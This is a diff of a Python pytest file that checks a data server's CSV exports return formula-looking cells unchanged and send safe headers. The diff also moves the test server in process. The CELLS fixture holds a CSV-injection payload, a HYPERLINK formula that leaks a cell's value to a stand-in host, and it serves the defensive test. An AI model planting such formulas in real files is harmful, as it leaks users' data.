@@ -17,13 +17,14 @@ from collections.abc import Iterator
 import pyarrow as pa
 import pytest
 import requests
-from servers import serve
+from servers import mounted
 
 from btvstat_open.server import create_app
 from btvstat_open.store import Store
 from btvstat_open.types import Column
 from btvstat_open.web.settings import Settings
 
+HTTP = requests.Session()  # reaches the site's app in process (see the site fixture)
 CELLS = [
     "=1+2",
     '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
@@ -44,7 +45,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
         dataset_id, "Formula-looking cells", [Column("cell", "Cell", "text"), Column("n", "N", "number")]
     )
     store.replace(dataset_id, pa.table({"cell": CELLS, "n": [float(i) - 3 for i in range(len(CELLS))]}))
-    with serve(create_app(store, None, Settings())) as url:
+    with mounted(create_app(store, None, Settings()), HTTP) as url:
         yield url, dataset_id
     store.close()
 
@@ -60,7 +61,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
 )
 def test_formula_looking_cells_come_back_exactly(site: tuple[str, str], path: str) -> None:
     url, dataset_id = site
-    response = requests.get(url + path.format(id=dataset_id), timeout=60)
+    response = HTTP.get(url + path.format(id=dataset_id), timeout=60)
     assert response.status_code == 200, response.text[:300]
     assert response.headers["content-type"].startswith("text/csv")
     assert response.headers["x-content-type-options"] == "nosniff"
